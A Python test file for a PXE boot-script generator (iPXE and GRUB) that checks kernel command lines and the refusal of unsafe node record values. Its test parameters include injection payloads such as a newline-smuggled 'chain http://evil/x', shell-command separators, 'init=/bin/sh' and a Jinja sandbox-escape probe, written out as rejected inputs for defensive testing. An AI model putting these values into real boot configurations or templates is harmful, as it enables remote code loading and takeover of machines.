"""Boot scripts: what they say, and that no value of a record can say anything else."""

from __future__ import annotations

import dataclasses
from pathlib import Path
from typing import Any

import jinja2
import pytest
from hypothesis import given
from hypothesis import strategies as st

from layercake.kraken.errors import InputError
from minos.identity import parse_identity
from pxe.nodes import Node, from_record
from pxe.paths import grub, ipxe
from pxe.paths.boot_spec import command_line, environment, plain_word, spec_for
from pxe.settings import Settings
from tests.boot.conftest import NODE, RECORD

TOKEN = "one-use_token.42"
NOW = 1_800_000_000.4


def script(settings: Settings, node: Node, mac: bytes, token: str) -> str:
    return ipxe.render(spec_for(node, mac, token, settings, NOW), settings.http_base)


def test_grub_says_the_same_boot_in_its_own_words(
    node: Node, settings: Settings, tmp_path: Path
) -> None:
    (tmp_path / "set").mkdir()
    for name in ("vmlinuz", "minos.img", "hardware.img"):
        (tmp_path / "set" / name).touch()
    conf = dataclasses.replace(settings, boot_dir=tmp_path)
    said = spec_for(dataclasses.replace(node, boot_set="set"), node.macs[0], TOKEN, conf, NOW)
    base = "(tftp,$net_default_server)/boot/set"
    lines = [line.strip() for line in grub.render(said, grub.by_tftp(said)).splitlines()]
    assert f"if linux {base}/vmlinuz {said.command_line}; then" in lines
    assert f"if initrd {base}/hardware.img {base}/minos.img; then" in lines, "drivers and minOS"
    assert lines[-1] == "reboot", "a machine that cannot boot starts again"
    assert "initrd=" not in said.command_line, "with GRUB the kernel would look for them on a disk"


def test_the_kernel_command_line(node: Node, settings: Settings) -> None:
    assert command_line(node, node.macs[0], TOKEN, settings, NOW).split() == [
        "layercake.node=6b1f2a3c-0000-4000-8000-000000000001",
        "layercake.name=n1",
        "layercake.mac=52:54:00:00:01:01",
        "layercake.ip=10.99.0.11/24",
        "layercake.gateway=10.99.0.254",
        "layercake.dns=10.99.0.1,10.99.0.2",
        "layercake.ntp=10.99.0.1",
        "layercake.head=https://10.99.0.1:8443",
        "layercake.sync=10.99.0.1:31415",
        f"layercake.token={TOKEN}",
        "layercake.time=1800000000",
        "panic=10",
        "console=ttyS0,115200",
        "quiet",
    ]


def test_the_script(node: Node, settings: Settings) -> None:
    lines = script(settings, node, node.macs[0], TOKEN).splitlines()
    assert lines[0] == "#!ipxe"
    kernel = next(line for line in lines if line.startswith("kernel "))
    url = "http://10.99.0.1:8080/boot/vmlinuz?card=${netX/busid}"
    assert kernel.startswith(f"kernel --name vmlinuz {url} initrd=minos.img layercake.node=")
    assert kernel.endswith(" || goto again")
    assert "initrd --name minos.img http://10.99.0.1:8080/boot/minos.img || goto again" in lines
    told = (
        "echo Layercake: n1 cannot boot from http://10.99.0.1:8080/boot, starts again in 5 seconds"
    )
    assert lines[-3:] == [told, "sleep 5", "reboot"]


def test_the_other_heads_of_the_site_are_named_where_there_is_room(
    node: Node, settings: Settings
) -> None:
    others = ["https://10.99.0.2:8443@10.99.0.2:31415", "https://[fd99::3]:8443@[fd99::3]:31415"]
    told = from_record(NODE, {**RECORD, "other_heads": others})
    alone = command_line(node, node.macs[0], TOKEN, settings, NOW)
    line = command_line(told, told.macs[0], TOKEN, settings, NOW)
    assert line == f"{alone} layercake.other_heads={','.join(others)}"
    assert parse_identity(line).other_heads == (
        ("https://10.99.0.2:8443", "10.99.0.2:31415"),
        ("https://[fd99::3]:8443", "[fd99::3]:31415"),
    )
    full = "x" * (2000 - len(alone))
    crowded = dataclasses.replace(told, kernel_args=f"{node.kernel_args} {full}")
    line = command_line(crowded, told.macs[0], TOKEN, settings, NOW)
    assert line.endswith(full), "a node boots as well without them"


@pytest.mark.parametrize(
    ("console", "words"),
    [
        ("", []),
        ("tty0", ["console=tty0"]),
        ("ttyS1,57600", ["console=ttyS1,57600"]),
        ("ttyAMA0", ["console=ttyAMA0,115200"]),
        ("ttyS0,115200n8", ["console=ttyS0,115200n8"]),
    ],
)
def test_consoles(node: Node, settings: Settings, console: str, words: list[str]) -> None:
    line = command_line(
        dataclasses.replace(node, console=console), node.macs[0], TOKEN, settings, NOW
    )
    assert [w for w in line.split() if w.startswith("console=")] == words


def test_no_gateway_and_no_dns_are_no_words(node: Node, settings: Settings) -> None:
    bare = dataclasses.replace(settings, gateway=None, dns=())
    assert not {"gateway", "dns"} & {
        w.split("=")[0].removeprefix("layercake.")
        for w in command_line(node, node.macs[0], TOKEN, bare, NOW).split()
    }


@pytest.mark.parametrize(
    "hostile",
    [
        "quiet\nchain http://evil/x",
        "quiet\rreboot",
        "a ${token}",
        "a${net0/mac}",
        "x || shell",
        "x && shell",
        "x ; shell",
        "# x",
        "a#b",
        "a\tb",
        "a\x00b",
        "a\x7fb",
        "a\u2028b",
        "ä",
        "a\\",
        '"a b"',
        "'a'",
        "a<b",
        "a>b",
        "`id`",
        "{{ 7 }}",
        "a\x0bb",
        "a\xa0b",
    ],
)
def test_kernel_args_that_mean_more_than_words_are_refused(
    node: Node, settings: Settings, hostile: str
) -> None:
    with pytest.raises(InputError, match="kernel_args"):
        script(settings, dataclasses.replace(node, kernel_args=hostile), node.macs[0], TOKEN)


@pytest.mark.parametrize("hostile", ["layercake.token=x", "quiet layercake.node=other"])
def test_kernel_args_cannot_say_who_the_node_is(
    node: Node, settings: Settings, hostile: str
) -> None:
    with pytest.raises(InputError, match=r"layercake\. word"):
        command_line(
            dataclasses.replace(node, kernel_args=hostile), node.macs[0], TOKEN, settings, NOW
        )


@pytest.mark.parametrize("hostile", ["ttyS0 init=/bin/sh", "ttyS0,115200\n", "${x}", "ttyS0;", "0"])
def test_hostile_consoles(node: Node, settings: Settings, hostile: str) -> None:
    with pytest.raises(InputError, match="console"):
        command_line(dataclasses.replace(node, console=hostile), node.macs[0], TOKEN, settings, NOW)


@pytest.mark.parametrize("change", [{"name": "n1\nreboot"}, {"id": "a b"}, {"id": ""}])
def test_hostile_names(node: Node, settings: Settings, change: dict[str, Any]) -> None:
    with pytest.raises(InputError):
        script(settings, dataclasses.replace(node, **change), node.macs[0], TOKEN)


def test_hostile_settings(node: Node, settings: Settings) -> None:
    changes: tuple[dict[str, Any], ...] = ({"head_url": "https://h ${x}"}, {"sync_address": "a\nb"})
    for change in changes:
        with pytest.raises(InputError):
            script(dataclasses.replace(settings, **change), node, node.macs[0], TOKEN)


def test_a_bad_token_is_not_in_the_error(node: Node, settings: Settings) -> None:
    with pytest.raises(InputError) as caught:
        command_line(node, node.macs[0], "sec ret", settings, NOW)
    assert "sec" not in str(caught.value).replace("token", "")


def test_a_line_that_the_kernel_would_cut_is_refused(node: Node, settings: Settings) -> None:
    with pytest.raises(InputError, match="2010"):
        command_line(
            dataclasses.replace(node, kernel_args="a" * 2000), node.macs[0], TOKEN, settings, NOW
        )


@given(st.text(max_size=30))
def test_a_word_is_one_word(text: str) -> None:
    try:
        kept = plain_word("x", text)
    except InputError:
        return
    assert kept == text
    assert text.split() == [text]
    assert text.isascii()
    assert not set(text) & set("${};#&|<>\"'\\`")


def test_an_undefined_value_is_an_error() -> None:
    with pytest.raises(jinja2.UndefinedError):
        environment().from_string("kernel {{ nothing }}").render()


def test_templates_are_in_a_sandbox() -> None:
    with pytest.raises(jinja2.exceptions.SecurityError):
        environment().from_string("{{ ''.__class__.__mro__ }}").render()
